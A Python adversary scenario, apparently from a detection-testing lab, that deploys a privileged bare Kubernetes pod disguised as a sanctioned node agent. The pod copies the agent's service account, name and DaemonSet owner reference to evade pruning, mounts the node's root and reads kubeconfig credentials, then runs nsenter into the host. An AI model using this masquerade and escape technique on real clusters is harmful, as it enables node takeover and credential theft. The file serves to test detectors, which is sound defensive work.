"""A bare pod dressed as the node agent: its namespace, service account, name and owner reference."""

from __future__ import annotations

import json
import secrets

from lab import Lab
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._agents import DETECTORS_AGENT, PLATFORM_AGENT
from scenarios.variants import Dimension

# The sanctioned agents it can pass itself off as (the platform's own is set up by the scenario).
AGENTS = {"platform-node-agent": PLATFORM_AGENT, "stowaway-node-agent": DETECTORS_AGENT}
NAMESPACE = AGENTS["platform-node-agent"][0]
POD_SUFFIX = "bcdfghjklmnpqrstvwxz2456789"  # the alphabet of the suffix Kubernetes gives a controller's pods


class BareAgentPod(Scenario):
    id = "kubernetes.escape.bare-agent-pod"
    title = "Bare pod copies the node agent's namespace, account and DaemonSet owner, reads the node's kubeconfigs"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1611", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.privileged-pod", "stowaway.k8s.hostpath-mount",
                                "stowaway.k8s.host-namespace-pod"), within_s=20)
    twin = "kubernetes.deploy.node-agent-daemonset"
    forges = ("kubernetes/sanctioned_workloads/node-agents", "kubernetes/sanctioned_workloads/stowaway-node-agent")
    tags = ("kubernetes", "escape", "credential-access")
    parallel_safe = False  # the platform-agents namespace and the agent's names are fixed, as the platform's are
    dimensions = (
        Dimension("agent", tuple(AGENTS), doc="whose sanctioned agent it copies: the platform's node agent "
                  "(platform-agents), or the detectors' own node agent (stowaway-system), which any reader of "
                  "the policy file knows is sanctioned"),
    )
    description = (
        "First the cluster is as the platform runs it: the node agent DaemonSet in platform-agents "
        "under the node-agent service account. Then, with a credential that may create pods in "
        "platform-agents, it reads the agent's pod and creates a bare pod (not through any controller) "
        "that copies what that pod shows: the namespace, the node-agent service account, a node-agent-"
        "<suffix> name, and its ownerReferences, the running DaemonSet's kind, name and uid with "
        "controller: true (an owner uid that does not exist has the garbage collector delete the pod at "
        "once). Its labels say node-agent too but leave out the DaemonSet's selector, so the "
        "DaemonSet does not prune it as a second copy on the node. The pod is privileged, shares the "
        "node's PID namespace and mounts the node's / read-only: it counts the client certificates "
        "named in the node's kubeconfigs (kubelet.conf, the node's credential; admin.conf, the cluster "
        "admin's, on a control plane) and runs hostname in the "
        "node's namespaces through nsenter --target 1. The scenario reads the pod's log (no exec) and "
        "checks it holds the certificate count and the node's name. A variant copies the detectors' own "
        "node agent instead (its namespace, service account and DaemonSet, running already)."
    )

    def detonate(self, lab: Lab) -> None:
        namespace, account, daemonset = AGENTS[str(self.variant["agent"])]
        if namespace == NAMESPACE:
            _platform_agent(lab)
        selector = f"app.kubernetes.io/name={daemonset}"

        def agent_pod() -> dict:
            items = json.loads(lab.kubectl("get", "pods", "-n", namespace, "-l", selector, "-o", "json")
                               .output).get("items", [])
            running = [p for p in items if p.get("status", {}).get("phase") == "Running"]
            return running[0] if running else {}

        lab.wait_for(lambda: bool(agent_pod()), timeout=60, what="the node agent's pod to run")
        agent = agent_pod()
        node = agent["spec"]["nodeName"]
        name = f"{daemonset}-" + "".join(secrets.choice(POD_SUFFIX) for _ in range(5))
        script = ("cat /host/etc/kubernetes/kubelet.conf /host/etc/kubernetes/admin.conf 2>/dev/null "
                  "| grep -c client-certificate; "
                  "nsenter --target 1 --mount --uts -- hostname; sleep 3600")
        labels = {"app.kubernetes.io/component": daemonset, "app.kubernetes.io/part-of": daemonset}
        lab.action("create a bare pod carrying the node agent's DaemonSet owner reference")
        pod = lab.apply({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": namespace,
                         "labels": labels,
                         "ownerReferences": agent["metadata"]["ownerReferences"]},
            "spec": {
                # On the agent's node, as a DaemonSet's pod would be (its controller sets nodeName too).
                "nodeName": node, "serviceAccountName": account, "hostPID": True,
                "automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1, "restartPolicy": "Never",
                "containers": [{"name": "agent", "image": lab.image, "imagePullPolicy": "IfNotPresent",
                                "command": ["sh", "-c", script], "securityContext": {"privileged": True},
                                "volumeMounts": [{"name": "host", "mountPath": "/host", "readOnly": True}]}],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
            },
        })[0]

        def log() -> list[str]:
            result = lab.kubectl("logs", "-n", namespace, pod.name, check=False)
            return result.output.split() if result.exit_code == 0 else []

        lab.wait_for(lambda: len(log()) >= 2, timeout=60, what="the pod to report what it read on the node")
        certificates, hostname = log()[:2]
        if not certificates.isdigit() or int(certificates) < 1 or hostname != node:
            raise AssertionError(f"the pod did not read the node's credentials and name: {log()!r} (node {node})")


def _platform_agent(lab: Lab) -> None:
    """The cluster as the platform runs it: its node agent DaemonSet in platform-agents."""
    lab.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
    lab.apply({"apiVersion": "v1", "kind": "ServiceAccount",
               "metadata": {"name": "node-agent", "namespace": NAMESPACE}})
    selector = {"app.kubernetes.io/name": "node-agent"}
    agent_loop = "while true; do ls /host/var/log | wc -l; sleep 5; done"
    varlog = {"name": "varlog", "mountPath": "/host/var/log", "readOnly": True}
    lab.apply({
        "apiVersion": "apps/v1", "kind": "DaemonSet",
        "metadata": {"name": "node-agent", "namespace": NAMESPACE, "labels": selector},
        "spec": {"selector": {"matchLabels": selector}, "template": {
            "metadata": {"labels": selector},
            "spec": {
                "serviceAccountName": "node-agent", "hostPID": True,
                "automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1,
                "containers": [{"name": "agent", "image": lab.image, "imagePullPolicy": "IfNotPresent",
                                "command": ["sh", "-c", agent_loop], "securityContext": {"privileged": True},
                                "volumeMounts": [varlog]}],
                "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}],
            },
        }},
    })
